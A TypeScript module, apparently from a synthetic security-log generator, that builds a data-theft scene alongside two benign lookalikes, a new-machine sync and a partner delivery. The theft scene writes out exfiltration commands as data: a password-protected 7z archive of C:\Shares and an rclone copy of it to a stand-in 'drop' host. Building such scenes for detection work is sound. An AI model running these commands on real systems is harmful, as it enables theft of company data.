/** What the logs hold of much data on its way: to an intruder, to a new machine, to a partner. */
import { PLACES, type Place, publicIp, type Sender, type User } from "../company.ts";
import { officeRow } from "../rows/activityRows.ts";
import { cloudAppRow, firewallRow, graphCallRow } from "../rows/cloudRows.ts";
import { signInRow } from "../rows/identityRows.ts";
import { messageRow } from "../rows/mailRows.ts";
import type { LogRow } from "../rows/row.ts";
import { type OnHost, onHost } from "./sceneLog.ts";
import type { StoryContext } from "./story.ts";

export interface TransferScene {
  readonly on: OnHost;
  readonly ip: string;
  readonly place: Place;
  readonly rows: readonly LogRow[];
  readonly evidence: readonly LogRow[];
}

interface Transfer {
  readonly user: User;
  readonly ip: string;
  readonly place: Place;
  readonly isOwnDevice: boolean;
  readonly operation: "FileDownloaded" | "FileSyncDownloadedFull";
  readonly files: number;
  readonly site: string;
  /** With whom something is shared, and to whom mail goes. */
  readonly recipient: string;
  readonly archive: readonly [file: string, command: string];
  readonly tool: readonly [file: string, command: string];
  readonly destination: { readonly url: string; readonly ip: string };
  readonly sentBytes: number;
  readonly usb: "UsbDriveMounted" | "PnpDeviceConnected";
}

/** Sign-in, downloads, a share, an archive, a transfer, mail: who, whence, where to and how much differ. */
function transfer(context: StoryContext, what: Transfer): TransferScene {
  const { company, random } = context;
  const { user, ip, place, destination } = what;
  const on = onHost(context, user);
  const object = (index: number): string =>
    `https://${company.name}.sharepoint.example/sites/${what.site}/${random.hex(4)}-${index}.${random.pick(["xlsx", "docx", "pdf"])}`;
  const from = { user, ip };
  const downloads = Array.from({ length: what.files }, (_, index) =>
    officeRow(company, random, {
      ...from,
      at: on.at(6 + (index * 20) / what.files),
      operation: what.operation,
      workload: "SharePoint",
      object: object(index),
    }),
  );
  const archive = on.program(...what.archive, "explorer.exe");
  const tool = on.program(...what.tool, "cmd.exe");
  const evidence = [
    signInRow(company, random, {
      ...from,
      place,
      at: on.at(3),
      isOwnDevice: what.isOwnDevice,
      result: "0",
      app: "SharePoint Online",
      mfa: "claim",
    }),
    ...downloads,
    officeRow(company, random, {
      ...from,
      at: on.at(28),
      operation: "SharingSet",
      workload: "SharePoint",
      object: object(0),
      sharedWith: what.recipient,
    }),
    on.starts(30, archive),
    on.starts(34, tool),
    on.connects(35, { ...destination, by: tool }),
    firewallRow(company, random, {
      at: on.at(36),
      from: on.host,
      user,
      toIp: destination.ip,
      sentBytes: what.sentBytes,
    }),
    cloudAppRow(company, random, {
      ...from,
      place,
      at: on.at(12),
      app: "Microsoft SharePoint Online",
      action: what.operation,
      object: what.site,
    }),
  ];
  const rows = [...evidence, ...around(context, on, what)];
  return { on, ip, place, rows, evidence };
}

/** Mail with attachments, a mailbox read by a program, a device plugged in, calls of Graph. */
function around({ company, random }: StoryContext, on: OnHost, what: Transfer): LogRow[] {
  const { user, ip, recipient } = what;
  const from: Sender = {
    address: user.upn,
    name: user.name,
    domain: company.domain,
    ip: company.officeIp,
    linkDomain: company.domain,
  };
  const to = { ...user, upn: recipient, id: "" };
  const mails = Array.from({ length: random.int(1, 4) }, (_, index) =>
    messageRow(company, random, {
      from,
      to,
      at: on.at(40 + index),
      id: random.guid(),
      subject: "Documents",
      delivery: "Delivered",
      checks: "pass",
      urlCount: 0,
      attachmentCount: random.int(1, 4),
    }),
  );
  const app = { name: "Office", appId: OFFICE_APP, servicePrincipalId: "", ip };
  return [
    ...mails,
    officeRow(company, random, {
      at: on.at(15),
      user,
      ip,
      operation: "MailItemsAccessed",
      workload: "Exchange",
      object: user.upn,
      client: "Client=REST;Client=RESTSystem;;",
    }),
    on.senses(31, {
      action: what.usb,
      by: on.program("explorer.exe", "explorer.exe", "userinit.exe"),
    }),
    graphCallRow(company, random, {
      at: on.at(16),
      app,
      ip,
      user,
      path: `/users/${user.id}/drive/root/children`,
      bytes: random.int(20_000, 900_000),
    }),
  ];
}

const OFFICE_APP = "d3590ed6-52b3-4102-aeff-aad2292ab01c";
const MEGABYTE = 1_048_576;

/** A stolen session empties a site from abroad; an archive leaves through a tool for cloud storage. */
export function theft(context: StoryContext): TransferScene {
  const { random, company } = context;
  const drop = { url: `store-${random.hex(5)}.example`, ip: publicIp(random) };
  return transfer(context, {
    user: random.pick(company.users),
    ip: publicIp(random),
    place: random.pick(PLACES),
    isOwnDevice: false,
    operation: "FileDownloaded",
    files: random.int(80, 160),
    site: random.pick(["finance", "board", "engineering"]),
    recipient: `${random.hex(6)}@freemail.example`,
    archive: ["7z.exe", "7z.exe a -p -mhe C:\\Users\\Public\\d.7z C:\\Shares"],
    tool: ["rclone.exe", `rclone.exe copy C:\\Users\\Public\\d.7z drop:${random.hex(4)}`],
    destination: drop,
    sentBytes: random.int(400, 3000) * MEGABYTE,
    usb: random.pick(["UsbDriveMounted", "PnpDeviceConnected"]),
  });
}

/** A colleague fills a new machine: the sync client, the office or the home, nothing leaves. */
export function newMachine(context: StoryContext): TransferScene {
  const { random, company } = context;
  const user = random.pick(company.users);
  return transfer(context, {
    user,
    ip: random.pick([company.officeIp, user.homeIp]),
    place: company.office,
    isOwnDevice: true,
    operation: "FileSyncDownloadedFull",
    files: random.int(80, 160),
    site: "team",
    recipient: random.pick(company.users).upn,
    archive: ["tar.exe", "tar.exe -xf C:\\Setup\\profile.tar"],
    tool: ["azcopy.exe", "azcopy.exe sync C:\\Profile https://profiles.blob.core.windows.net/home"],
    destination: { url: "profiles.blob.core.windows.net", ip: "20.60.10.4" },
    sentBytes: random.int(1, 20) * MEGABYTE,
    usb: random.pick(["UsbDriveMounted", "PnpDeviceConnected"]),
  });
}

/** The delivery that a partner gets every week, larger than usual. */
export function partnerDelivery(context: StoryContext): TransferScene {
  const { random, company } = context;
  const user = senderOf(company.users);
  const partner = random.pick(company.partners);
  return transfer(context, {
    user,
    ip: company.officeIp,
    place: company.office,
    isOwnDevice: true,
    operation: "FileDownloaded",
    files: random.int(80, 160),
    site: "partners",
    recipient: partner.address,
    archive: ["7z.exe", "7z.exe a C:\\Partners\\delivery.7z C:\\Partners\\out"],
    tool: [
      "winscp.exe",
      `winscp.exe /upload C:\\Partners\\delivery.7z sftp://${partner.linkDomain}`,
    ],
    destination: { url: partner.linkDomain, ip: partner.ip },
    sentBytes: random.int(200, 900) * MEGABYTE,
    usb: random.pick(["UsbDriveMounted", "PnpDeviceConnected"]),
  });
}

/** The colleague who sends the partners their data every week. */
export function senderOf(users: readonly User[]): User {
  const user = users.find(({ department }) => department === "Operations") ?? users[0];
  if (user === undefined) throw new RangeError("The company has no users.");
  return user;
}
